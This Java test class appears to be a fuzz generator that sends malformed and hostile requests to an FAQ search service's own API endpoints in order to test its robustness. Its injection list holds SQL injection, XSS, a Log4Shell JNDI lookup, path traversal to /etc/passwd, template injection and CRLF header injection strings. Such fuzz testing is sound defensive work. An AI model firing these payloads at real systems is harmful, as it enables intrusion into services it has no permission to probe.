package dev.faqindex.testing;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Generates requests a public search box meets from careless or malicious clients: random Unicode, unbalanced query
 * syntax, huge terms, wildcards and regular expressions, floods of words, injection strings, and bad parameters.
 * Deterministic for a given seed.
 */
public final class HostileRequests {

    /** One generated request: a GET path with its query string, or a POST with a body. */
    public record Request(String method, String pathAndQuery, String body, String description) {
    }

    private static final String[] SYNTAX = {"\"", "(", ")", "[", "]", "{", "}", "+", "-", "!", "~", "^", ":", "\\",
        "/", "AND", "OR", "NOT", "&&", "||", "*", "?", "title:", "body:", "back", "pain", "\"lower back", "-\"",
        "+-+", "NOT NOT", "OR OR", "^2", "~0.5", "\u201cquoted\u201d", "''", "`", ";", "|", "&"};
    private static final String[] WILDCARDS = {"*", "?", "*ing", "stretch*", "a*b*c*d*e*f*", "???????", "/.*/",
        "/[a-z]+/", "/(a+)+$/", "back~2", "pain~", "core~0.1", "*:*", "title:*", "**********", "?*?*?*?*", "\\*"};
    private static final String[] INJECTIONS = {"\u0000", "%00", "%", "NaN", "-1", "1e309", "' OR 1=1 --",
        "<script>alert(1)</script>", "${jndi:ldap://example.invalid/a}", "../../etc/passwd", "{{7*7}}",
        "\"><img src=x onerror=alert(1)>", "\r\nSet-Cookie: a=b", "\uFEFF", "\u202Eevil", "\uD83D\uDCA9\uD83D\uDCA9"};
    private static final String[] MODES = {"lexical", "semantic", "hybrid", "LEXICAL", "fuzzy", "", " "};
    private static final String[] TYPES = {"faq", "section", "FAQ", "article", "", "faq,section"};

    private static final String[] KINDS = {"random unicode", "unbalanced syntax", "huge term", "wildcards/regex/fuzzy",
        "hundreds of words", "injection strings", "over-long unicode"};

    private final Random random;

    public HostileRequests(long seed) {
        this.random = new Random(seed);
    }

    /** {@code count} requests. */
    public List<Request> generate(int count) {
        List<Request> requests = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            requests.add(next());
        }
        return requests;
    }

    private Request next() {
        int kind = random.nextInt(7);
        String text = switch (kind) {
            case 0 -> randomUnicode(1 + random.nextInt(200));
            case 1 -> syntax();
            case 2 -> hugeTerm();
            case 3 -> pick(WILDCARDS) + (random.nextBoolean() ? " " + pick(WILDCARDS) : "");
            case 4 -> manyWords(200 + random.nextInt(1_000));
            case 5 -> pick(INJECTIONS) + (random.nextBoolean() ? " back pain" : "");
            default -> randomUnicode(900 + random.nextInt(2_000)); // around and over the length limit
        };
        String description = KINDS[kind];
        int endpoint = random.nextInt(100);
        if (endpoint < 70) {
            return new Request("GET", "/api/search?q=" + RunningServer.encode(text) + parameters(), null,
                    "search: " + description);
        } else if (endpoint < 80) {
            return new Request("GET", "/api/suggest?q=" + RunningServer.encode(text) + maybe("&limit=", limit()), null,
                    "suggest: " + description);
        } else if (endpoint < 90) {
            return new Request("POST", "/api/retrieve", retrieveBody(text), "retrieve: " + description);
        } else if (endpoint < 95) {
            return new Request("GET", "/api/chunks/" + RunningServer.encode(clip(text, 300)).replace("+", "%20"), null,
                    "chunk: " + description);
        } else {
            return new Request("GET", "/api/chunks/" + RunningServer.encode(clip(text, 300)).replace("+", "%20")
                    + "/related" + maybe("?limit=", limit()), null, "related: " + description);
        }
    }

    private String parameters() {
        return maybe("&limit=", limit()) + maybe("&offset=", offset()) + maybe("&mode=", RunningServer.encode(pick(MODES)))
                + maybe("&type=", RunningServer.encode(pick(TYPES))) + maybe("&explain=", random.nextBoolean() ? "true" : "yes")
                + maybe("&group=", random.nextBoolean() ? "article" : "chunk")
                + maybe("&tags=", RunningServer.encode(randomUnicode(1 + random.nextInt(30))))
                + maybe("&article=", RunningServer.encode(syntax()));
    }

    private String retrieveBody(String text) {
        return switch (random.nextInt(6)) {
            case 0 -> "{\"query\": " + jsonString(text) + "}";
            case 1 -> "{\"query\": " + jsonString(text) + ", \"k\": " + limit() + ", \"maxTokens\": " + offset() + "}";
            case 2 -> "{\"query\": " + jsonString(text) + ", \"mode\": " + jsonString(pick(MODES))
                    + ", \"filters\": {\"type\": " + jsonString(pick(TYPES)) + "}}";
            case 3 -> "{\"query\": " + jsonString(text); // truncated JSON
            case 4 -> "[" + jsonString(text) + "]";
            default -> jsonString(text) + ": " + text;
        };
    }

    private String limit() {
        return switch (random.nextInt(6)) {
            case 0 -> "0";
            case 1 -> "-1";
            case 2 -> "51";
            case 3 -> "abc";
            case 4 -> "99999999999999999999";
            default -> Integer.toString(1 + random.nextInt(50));
        };
    }

    private String offset() {
        return switch (random.nextInt(5)) {
            case 0 -> "-5";
            case 1 -> "10001";
            case 2 -> "1.5";
            default -> Integer.toString(random.nextInt(10_001));
        };
    }

    private String maybe(String prefix, String value) {
        return random.nextInt(4) == 0 ? prefix + value : "";
    }

    private String syntax() {
        StringBuilder text = new StringBuilder();
        int tokens = 1 + random.nextInt(30);
        for (int i = 0; i < tokens; i++) {
            text.append(pick(SYNTAX)).append(random.nextInt(3) == 0 ? "" : " ");
        }
        return text.toString();
    }

    private String hugeTerm() {
        int length = 200 + random.nextInt(800);
        StringBuilder term = new StringBuilder(length);
        boolean repeated = random.nextBoolean();
        for (int i = 0; i < length; i++) {
            term.append(repeated ? 'a' : (char) ('a' + random.nextInt(26)));
        }
        return term.toString();
    }

    private String manyWords(int length) {
        StringBuilder text = new StringBuilder(length);
        while (text.length() < length) {
            int wordLength = 3 + random.nextInt(6);
            for (int i = 0; i < wordLength; i++) {
                text.append((char) ('a' + random.nextInt(26)));
            }
            text.append(' ');
        }
        return text.substring(0, length);
    }

    private String randomUnicode(int length) {
        StringBuilder text = new StringBuilder(length);
        while (text.length() < length) {
            int codePoint = switch (random.nextInt(8)) {
                case 0 -> random.nextInt(0x20); // control characters
                case 1 -> 0x20 + random.nextInt(0x5F); // printable ASCII
                case 2 -> 0xA0 + random.nextInt(0x160); // Latin-1 and Latin Extended
                case 3 -> 0x0300 + random.nextInt(0x70); // combining marks
                case 4 -> 0x0590 + random.nextInt(0x170); // Hebrew and Arabic (right to left)
                case 5 -> 0x4E00 + random.nextInt(0x5000); // CJK ideographs
                case 6 -> 0x1F300 + random.nextInt(0x800); // emoji, outside the BMP
                default -> 0x2000 + random.nextInt(0x70); // spaces, joiners, bidi controls
            };
            text.appendCodePoint(codePoint);
        }
        return text.toString();
    }

    private static String clip(String text, int max) {
        return text.length() <= max ? text : text.substring(0, max);
    }

    private String pick(String[] values) {
        return values[random.nextInt(values.length)];
    }

    /** A JSON string literal. */
    private static String jsonString(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> json.append("\\\"");
                case '\\' -> json.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        json.append(String.format("\\u%04x", (int) c));
                    } else {
                        json.append(c);
                    }
                }
            }
        }
        return json.append('"').toString();
    }
}
